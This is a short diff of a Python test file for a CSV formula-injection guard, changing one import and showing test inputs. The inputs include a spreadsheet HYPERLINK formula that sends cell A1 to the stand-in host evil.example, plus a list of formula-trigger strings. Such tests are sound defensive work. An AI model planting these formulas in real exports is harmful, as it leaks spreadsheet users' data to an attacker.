@@ -10,7 +10,7 @@ import pandas as pd
 import pytest
 
 from exporters.formula_guard import csv_text, formula_like
-from services import web
+from ui import web
 
 REQUEST = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
 HOSTILE = [REQUEST, "+7(900)", "-2+3 — отрицательные числа", "@SUM(1,2) упр. 5", "\t=1+1", "\r=1+1",
